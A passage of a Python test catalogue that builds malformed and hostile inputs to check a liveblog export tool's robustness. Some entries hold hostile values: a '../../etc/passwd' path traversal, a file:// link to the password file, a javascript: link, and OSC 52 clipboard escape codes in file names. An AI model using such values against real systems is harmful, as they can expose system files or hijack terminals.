        BadInput("over-max-size", "a 9 KB file with --max-size 4KB", _over_limit, "error", args=("--max-size", "4KB")),
        BadInput("timestamps", "25:99, 0:00, 12:60, 13:00 pm, backwards and forwards",
                 _write("times.txt", TIMESTAMP_TEXT.encode()), "ok", args=("--date", "2024-05-01")),
        BadInput("markup-escapes", "Textual/Rich markup, ANSI/OSC escapes, bidi overrides, ZWJ emoji",
                 _write("hostile.txt", (HOSTILE_TITLE + "\n\n" + timed_text(HOSTILE_LINES)).encode()), "ok"),
        BadInput("digits-line", "a 1 MB line of digits and colons (timestamp regex stress)",
                 _write("digits.txt", b"Title\n\n" + b"12:00 1:1 " * 100_000 + b"\n"), "ok"),
        BadInput("many-short-lines", "200,000 lines of 'a'", _write("lines.txt", b"Title\n" + b"a\n" * 200_000), "ok"),
        BadInput("many-timestamps", "100,000 timestamp lines and nothing else",
                 _write("stamps.txt", b"Title\n" + b"10:00\n" * 100_000), "ok"),
        BadInput("large-200mb", "200 MB of timestamped text", _large_text, "ok", large=True),
        BadInput("line-50mb", "a single 50 MB line", _long_line, "ok", large=True),
        # HTML, MHTML and JSON-LD: need the HTML parser (issue 3).
        BadInput("html-deep", "HTML nested 100,000 <div>s deep", _write("deep.html", deep_html()), "either",
                 needs="html"),
        BadInput("html-unclosed-script", "an unclosed <script> swallowing the page",
                 _write("script.html", unclosed_script_html()), "either", needs="html"),
        BadInput("html-truncated", "an HTML page cut off mid-tag",
                 _write("cut.html", jsonld_page(JSONLD_CYCLIC)[:300]), "either", needs="html"),
        BadInput("html-bogus-charset", "HTML declaring an unknown charset",
                 _write("charset.html", b'<html><head><meta charset="x-no-such-codec"></head><body>'
                        b"<article><p>10:00</p><p>caf\xc3\xa9</p></article></body></html>"), "either", needs="html"),
        BadInput("html-utf16-declared", "UTF-8 HTML that declares UTF-16",
                 _write("decl16.html", b'<html><head><meta charset="utf-16"></head><body>'
                        b"<article><p>10:00</p><p>caf\xc3\xa9</p></article></body></html>"), "either", needs="html"),
        BadInput("html-utf16-bom", "an HTML page in UTF-16 with BOM",
                 _write("page16.html", jsonld_page(JSONLD_CYCLIC).decode().encode("utf-16")), "either",
                 needs="html"),
        BadInput("html-markup-escapes", "HTML whose text holds markup, escapes and bidi controls",
                 _write("hostile.html", ("<html><head><title>" + HOSTILE_TITLE.replace(ESC, "&#27;")
                        + "</title></head><body><article>"
                        + "".join(f"<p>{line}</p>" for line in ("10:00", *HOSTILE_LINES))
                        + "<a href='javascript:alert(1)'>js link</a><a href='file:///etc/passwd'>file</a>"
                        + "</article></body></html>").encode()), "either", needs="html"),
        BadInput("jsonld-invalid", "JSON-LD that is not JSON", _write("ld-invalid.html", jsonld_page(JSONLD_INVALID)),
                 "either", needs="html"),
        BadInput("jsonld-cyclic", "JSON-LD cyclic through @id references",
                 _write("ld-cyclic.html", jsonld_page(JSONLD_CYCLIC)), "either", needs="html"),
        BadInput("jsonld-huge", "JSON-LD with 20,000 updates and a 5,000-deep value",
                 _write("ld-huge.html", jsonld_page(jsonld_huge())), "either", needs="html"),
        BadInput("jsonld-deep-array", "JSON-LD nested 200,000 arrays deep (RecursionError bait)",
                 _write("ld-deep.html", jsonld_page(jsonld_deep_array())), "either", needs="html"),
        BadInput("html-named-zone", "clocks with a zone name ('10:00 BST') and no machine datetimes",
                 _write("zones.html", NAMED_ZONE_HTML), "ok", needs="html"),
        BadInput("html-control-url", "canonical and link URLs holding control and escape characters",
                 _write("ctl-url.html", CONTROL_URL_HTML), "ok", needs="html"),
        BadInput("mhtml-raw-header", "MHTML whose Content-Location headers hold raw non-ASCII bytes",
                 _write("raw-header.mhtml", MHTML_RAW_HEADER), "ok", needs="html"),
        BadInput("mhtml-truncated", "MHTML cut off inside its only part", _write("cut.mhtml", MHTML_TRUNCATED),
                 "either", needs="html"),
        BadInput("mhtml-no-boundary", "MHTML header without a boundary", _write("nob.mhtml", MHTML_NO_BOUNDARY),
                 "either", needs="html"),
        # Issue 14 (round two): what is not article text, deep and odd inputs.
        BadInput("escapes-filename", "title-less page whose file name holds OSC 52 (clipboard) and OSC 0 (title)",
                 _escapes_filename, "ok", needs="html"),
        BadInput("escapes-topic-name", "topics file naming a topic (and a term) with escape codes",
                 _escapes_topic_name, "ok", args=("--topics", "{dir}/topics.toml")),
        BadInput("non-utf8-filename", "a file named caf\\xe9.txt (not UTF-8)", _non_utf8_filename, "ok"),
        BadInput("unicode-invisibles", "U+2028/U+2029, zero-width characters, bidi marks, soft hyphens, tags",
                 _write("invisible.txt", INVISIBLES_TEXT.encode()), "ok"),
        BadInput("cms-json-wrong-types", "CMS JSON: canonicalUrl a number, block id a list, blockFirstPublished "
                 "'abc', 1e400 and [5], contributors a number, a rich-link url a number",
                 _write("types.json", json_text(_cms_wrong_types())), "ok"),
        BadInput("jsonld-wrong-types", "JSON-LD: headline a number, an update headline {\"@value\": 5}, "
                 "datePublished [5], author a list of numbers, url an object",
                 _write("ld-types.html", jsonld_page(json_text(_jsonld_wrong_types()).decode())), "either",
                 needs="html"),
        BadInput("max-size-inf", "--max-size inf (was OverflowError)", _write("small.txt", timed_text().encode()),
                 "error", args=("--max-size", "inf"), names="--max-size"),
        BadInput("max-size-1e400", "--max-size 1e400 (a float that is infinite)",
                 _write("small.txt", timed_text().encode()), "error", args=("--max-size", "1e400"), names="--max-size"),
        BadInput("date-9999-midnight", "--date 9999-12-31 on a blog that crosses midnight (was OverflowError)",
                 _write("midnight.txt", MIDNIGHT_TEXT.encode()), "ok", args=("--date", "9999-12-31", "--tz",
                                                                              "America/New_York")),
        BadInput("tz-path", "--tz ../../etc/passwd (dateutil reads it as a file and warns)",
                 _write("small.txt", timed_text().encode()), "error", args=("--tz", "../../etc/passwd"), names="--tz"),
        BadInput("markdown-structure", "text and a link URL that would restructure a Markdown export "
                 "(---, ===, 1. , - , + , 2) , ~~, < > \\\\ in the URL)", _write("md.html", MARKDOWN_STRUCTURE_HTML),
                 "ok", needs="html"),
        BadInput("state-fifo", "a FIFO in place of an article's state file (hung the reader)", _state_fifo, "error",
                 kind="state"),
        BadInput("state-dev-zero", "a symlink to /dev/zero in place of a state file (read without end)",
                 _state_dev_zero, "error", kind="state"),
        BadInput("state-oversized", "a 40 MB (sparse) state file", _state_oversized, "error", kind="state"),
        BadInput("state-directory", "a directory in place of a state file", _state_directory, "error", kind="state"),
        BadInput("stale-temporaries", "'.tmp' files an hour old left by kill -9 during saves and exports",
                 _stale_temporaries, "ok", kind="state"),
        BadInput("export-same-second", "e, change the order, e, e within one second "
                 "[test_exports_in_the_same_second_never_overwrite]", _sample_copy, "ok", kind="reader"),
        BadInput("quit-during-enrichment", "q while enrichment runs "
                 "[test_quitting_during_enrichment_ends_the_process_at_once]", _sample_copy, "ok", kind="reader"),
        BadInput("topics-long-term", "topics file with a 500-character term (was a RecursionError in the word trie)",
                 _with_topics(f'[topics."Long"]\ninclude = ["{"a" * 500}"]\n', timed_text()), "error",
                 args=("--topics", "{dir}/topics.toml"), names="{dir}/topics.toml"),
        BadInput("topics-deep-toml", "topics file nested 600 arrays deep (RecursionError inside tomllib)",
                 _with_topics("x = " + "[" * 600 + "]" * 600 + "\n", timed_text()), "error",
                 args=("--topics", "{dir}/topics.toml"), names="{dir}/topics.toml"),
        BadInput("mhtml-nested-multipart", "MHTML with its page inside 1,000 nested multiparts",
                 _write("nested.mhtml", nested_mhtml()), "either", needs="html"),
        BadInput("topics-exclude-heavy", "README topics on a 300 KB update full of include and exclude matches",
                 _with_topics(README_TOPICS, exclude_heavy_text(300_000)), "ok",
                 args=("--topics", "{dir}/topics.toml")),
    ]


# Entries known to fail on main (strict xfail in test_catalogue); empty since the 15:00 fixes
# (html.py zone counting, html_body.py URL controls, mhtml.py raw headers).
KNOWN_FAILING: dict[str, str] = {}


CATALOGUE: tuple[BadInput, ...] = tuple(_cat())
BY_NAME: dict[str, BadInput] = {entry.name: entry for entry in CATALOGUE}


def build_all(folder: Path, *, include_large: bool = False) -> dict[str, Path]:
    """Build every `liveblog export` entry under `folder` (one sub-folder each); return name -> path."""
    paths: dict[str, Path] = {}
    for entry in CATALOGUE:
        if (entry.large and not include_large) or entry.kind != "export":
            continue
        sub = folder / entry.name
        sub.mkdir(parents=True, exist_ok=True)
        sub.chmod(stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP | stat.S_IROTH | stat.S_IXOTH)
        paths[entry.name] = entry.build(sub)
    return paths


if __name__ == "__main__":  # pragma: no cover - a helper for looking at the inputs by hand
    import sys

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "catalogue-out")
    for name, path in build_all(target, include_large="--large" in sys.argv).items():
        print(f"{name}\t{path!r}")
